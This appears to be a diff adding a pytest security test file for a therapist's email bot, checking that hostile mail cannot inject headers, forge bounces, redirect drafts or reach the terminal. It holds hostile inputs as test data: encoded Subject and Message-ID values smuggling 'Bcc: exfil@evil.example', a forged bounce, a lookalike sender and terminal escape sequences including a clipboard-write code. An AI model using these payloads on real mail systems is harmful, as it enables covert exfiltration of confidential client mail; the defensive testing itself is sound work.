@@ -1,0 +1,257 @@
+"""The attacks of issue 14, each against the real Dovecot and SMTP servers: hostile mail cannot
+write the therapist's drafts, silence a client, redirect a reply or speak through her terminal."""
+
+from __future__ import annotations
+
+import base64
+import email
+import json
+from datetime import UTC, datetime
+from email import policy
+from email.message import EmailMessage
+
+from conftest import Bot
+from servers import SmtpServer
+
+from mailbot.app import App
+from mailbot.clock import parse_when
+from mailbot.config import load_config
+from mailbot.digesting import gather, render_digest
+
+NOW = "2026-11-02T09:00"
+BEN = "ben@client.example"
+CLEO = "cleo@client.example"
+MOOD = "Situation: meeting\nTrigger: a frown\nAutomatic thought: I'll be fired\nEmotion: anxious 80%"
+
+
+def add(bot: Bot, name: str, address: str, type_: str = "mood-log") -> dict:
+    bot.ok("client", "add", "--name", name, "--email", address)
+    bot.ok(
+        "assign", address, "--type", type_, "--title", "Mood log", "--due", "2026-11-30", "--no-send", now=NOW
+    )
+    return next(a for a in bot.json("assignment", "list") if a["client_email"] == address)
+
+
+def raw_mail(sender: str, to: str, subject: str, body: str, *headers: str) -> bytes:
+    lines = [
+        f"From: {sender}",
+        f"To: {to}",
+        f"Subject: {subject}",
+        "Date: Mon, 02 Nov 2026 10:00:00 +0000",
+        *headers,
+        "MIME-Version: 1.0",
+        "Content-Type: text/plain; charset=utf-8",
+        "",
+        body,
+        "",
+    ]
+    return "\r\n".join(lines).encode()
+
+
+def deliver(bot: Bot, raw: bytes | str) -> None:
+    """Into the inbox, received on the morning of the tests' day (as its Date says)."""
+    with bot.dovecot.client(bot.user) as imap:
+        imap.append("INBOX", raw, msg_time=datetime(2026, 11, 2, 10, 0, tzinfo=UTC))
+
+
+def encoded(text: str) -> str:
+    return f"=?utf-8?b?{base64.b64encode(text.encode()).decode()}?="
+
+
+def drafts(bot: Bot) -> list[tuple[bytes, EmailMessage]]:
+    raws = bot.dovecot.messages(bot.user, "Drafts")
+    return [(raw, email.message_from_bytes(raw, policy=policy.default)) for raw in raws]  # type: ignore[misc]
+
+
+def digest(bot: Bot, now: str) -> str:
+    """The text of the digest the therapist would get at ``now``."""
+    config = load_config(bot.config_path)
+    app = App(config, parse_when(now, config.therapist.tz, "--now"))
+    with app.sessions() as session:
+        return render_digest(config, gather(session, config, app.now))[0]
+
+
+# 1. Header injection into reply drafts ------------------------------------------------------------
+
+
+def test_a_subject_and_message_id_spelling_encoded_headers_add_nothing_to_the_draft(bot: Bot) -> None:
+    add(bot, "Ben Client", BEN)
+    inner = "=?utf-8?q?Mood_log=0D=0ABcc:_exfil@evil.example=0D=0AContent-Type:_text/html?="
+    forged_id = "<=?utf-8?q?x=0D=0ABcc:_exfil2@evil.example?=@client.example>"
+    deliver(
+        bot,
+        raw_mail(
+            f"Ben Client <{BEN}>",
+            bot.user,
+            encoded(inner),
+            MOOD,
+            f"Message-ID: {forged_id}",
+            f"References: <a.1@client.example> {forged_id}",
+        ),
+    )
+
+    bot.ok("poll", now="2026-11-02T11:00")
+
+    [(raw, draft)] = drafts(bot)
+    head = raw.split(b"\r\n\r\n", 1)[0].lower()
+    assert b"\nbcc:" not in head and b"exfil" not in head
+    assert [p.get_content_type() for p in draft.walk()] == ["text/plain"]
+    assert str(draft["Subject"]) == f"Re: {inner}"
+    assert draft["In-Reply-To"] is None
+    assert str(draft["References"]) == "<a.1@client.example>"
+    assert [a.addr_spec for a in draft["To"].addresses] == [BEN]
+
+
+# 3. One bad address stops drafts for everyone -------------------------------------------------------
+
+
+def test_a_client_address_the_mail_library_refuses_costs_only_that_clients_draft(bot: Bot) -> None:
+    ben = add(bot, "Ben Client", BEN)
+    add(bot, "Cleo Client", CLEO)
+    deliver(
+        bot,
+        raw_mail("Ben <bén@evil.example>", bot.user, f"mood [{ben['token']}]", MOOD, "Message-ID: <b.1@e>"),
+    )
+    bot.ok("poll", now="2026-11-02T10:00")
+    [stranger] = bot.json("triage", "list")
+    code, _out, err = bot.run("triage", "assign", str(stranger["id"]), str(ben["id"]), now="2026-11-02T10:05")
+    assert code != 0 and "--trust-sender" in err and "Traceback" not in err
+    bot.ok("triage", "assign", str(stranger["id"]), str(ben["id"]), "--trust-sender", now="2026-11-02T10:05")
+    deliver(
+        bot, raw_mail(f"Cleo <{CLEO}>", bot.user, "my mood log", MOOD, "Message-ID: <c.1@client.example>")
+    )
+
+    bot.ok("poll", now="2026-11-02T11:00")
+    bot.ok("poll", now="2026-11-02T11:05")
+
+    [(_raw, draft)] = drafts(bot)
+    assert [a.addr_spec for a in draft["To"].addresses] == [CLEO]
+    status = {
+        row["client_email"]: row["status"]
+        for row in json.loads(bot.ok("feedback", "list", "--json", now="2026-11-02T12:00"))
+    }
+    assert status == {"bén@evil.example": "waiting", CLEO: "drafted"}
+    assert "could not be written" in digest(bot, "2026-11-02T18:00")
+
+
+# 4. A forged bounce -----------------------------------------------------------------------------------
+
+
+def bounce(bot: Bot, client: str, returned_id: str | None) -> str:
+    returned = (
+        f"--b\r\nContent-Type: text/rfc822-headers\r\n\r\nMessage-ID: {returned_id}\r\nTo: {client}\r\n\r\n"
+        if returned_id
+        else ""
+    )
+    return (
+        f"From: MAILER-DAEMON@evil.example\r\nTo: {bot.user}\r\nSubject: Undelivered Mail\r\n"
+        "Content-Type: multipart/report; report-type=delivery-status; boundary=b\r\n\r\n"
+        "--b\r\nContent-Type: text/plain\r\n\r\nDelivery failed.\r\n"
+        "--b\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.evil.example\r\n\r\n"
+        f"Final-Recipient: rfc822; {client}\r\nAction: failed\r\nStatus: 5.1.1\r\n\r\n{returned}--b--\r\n"
+    )
+
+
+def daily_mood_log(bot: Bot) -> str:
+    """A client of this test alone (the SMTP server is shared by every test) with a daily log."""
+    client = f"{bot.user.split('@')[0]}-ben@client.example"
+    bot.ok("client", "add", "--name", "Ben Client", "--email", client, "--timezone", "Europe/Berlin")
+    bot.ok(
+        "assign", client, "--type", "mood-log", "--title", "Mood log", "--due", "2026-11-02T21:00",
+        "--repeat", "daily", "--count", "5", "--no-send", now="2026-11-01T09:00",
+    )  # fmt: skip
+    return client
+
+
+def test_a_bounce_that_names_no_mail_mailbot_sent_stops_no_reminders(
+    bot: Bot, smtp_server: SmtpServer
+) -> None:
+    client = daily_mood_log(bot)
+    deliver(bot, bounce(bot, client, None))
+    deliver(bot, bounce(bot, client, "<guessed.1@practice.example>"))
+
+    bot.ok("poll", now="2026-11-02T10:00")
+
+    assert bot.ok("remind", now="2026-11-02T18:00").startswith("1 reminder")
+    assert "stopped" not in digest(bot, "2026-11-02T19:00")
+
+
+def test_a_bounce_of_a_reminder_stops_reminders_and_the_digest_says_so(
+    bot: Bot, smtp_server: SmtpServer
+) -> None:
+    client = daily_mood_log(bot)
+    bot.ok("remind", now="2026-11-02T18:00")
+    [(_from, _to, sent)] = [m for m in smtp_server.received if client in m[1]]
+    reminder_id = email.message_from_bytes(sent, policy=policy.default)["Message-ID"]
+    deliver(bot, bounce(bot, client, str(reminder_id)))
+
+    bot.ok("poll", now="2026-11-02T19:00")
+
+    assert bot.ok("remind", now="2026-11-03T18:00").startswith("0 reminder")
+    assert "reminders to Ben Client stopped: a delivery failure" in digest(bot, "2026-11-03T09:00")
+
+
+# 6. A draft to the attacker under the client's name ----------------------------------------------------
+
+
+def test_a_strangers_thread_reply_is_not_filed_without_trust_nor_suggested_by_the_digest(bot: Bot) -> None:
+    ben = add(bot, "Ben Client", BEN)
+    deliver(
+        bot,
+        raw_mail(
+            "Ben Client <ben.client@evil.example>",
+            bot.user,
+            f"Re: [{ben['token']}]",
+            MOOD,
+            "Message-ID: <s@e>",
+        ),
+    )
+    bot.ok("poll", now="2026-11-02T10:00")
+    [stranger] = bot.json("triage", "list")
+
+    shown = digest(bot, "2026-11-02T18:00")
+    code, _out, err = bot.run("triage", "assign", str(stranger["id"]), str(ben["id"]), now="2026-11-02T18:05")
+
+    assert "mailbot triage assign" not in shown and "not sent from the client's address" in shown
+    assert code != 0 and err.count("\n") == 1 and "--trust-sender" in err
+    assert bot.json("triage", "list")[0]["id"] == stranger["id"]
+
+
+def test_a_draft_goes_to_the_clients_recorded_address_not_a_name_on_another(bot: Bot) -> None:
+    ben = add(bot, "Ben Client", BEN)
+    bot.ok("client", "add", "--name", "Other", "--email", "other@client.example")
+    deliver(
+        bot, raw_mail(f"Ben Client <{BEN}>", bot.user, f"mood [{ben['token']}]", MOOD, "Message-ID: <m@c>")
+    )
+
+    bot.ok("poll", now="2026-11-02T11:00")
+
+    [(_raw, draft)] = drafts(bot)
+    assert [(a.display_name, a.addr_spec) for a in draft["To"].addresses] == [("Ben Client", BEN)]
+
+
+# 7. Terminal escapes ---------------------------------------------------------------------------------------
+
+
+def test_escape_sequences_in_a_message_id_and_subject_never_reach_the_terminal(bot: Bot) -> None:
+    add(bot, "Ben Client", BEN)
+    deliver(
+        bot,
+        raw_mail(
+            f"Ben Client <{BEN}>",
+            bot.user,
+            encoded("mood \x1b[2J\x9b31m log"),
+            MOOD,
+            "Message-ID: <\x1b]52;c;ZXZpbA==\x07@client.example>",
+            'Content-Type: text/plain; charset="\x1b[31mutf-8"',
+        ),
+    )
+    bot.ok("poll", now="2026-11-02T11:00")
+    [sub] = bot.json("submission", "list")
+
+    shown = bot.ok("submission", "show", str(sub["id"])) + bot.ok("submission", "list")
+    as_json = bot.ok("submission", "show", str(sub["id"]), "--json")
+
+    assert "\x1b" not in shown and "\x9b" not in shown and "\x07" not in shown
+    assert "\x1b" not in as_json and "\x9b" not in as_json
+    assert "\\u001b" in shown
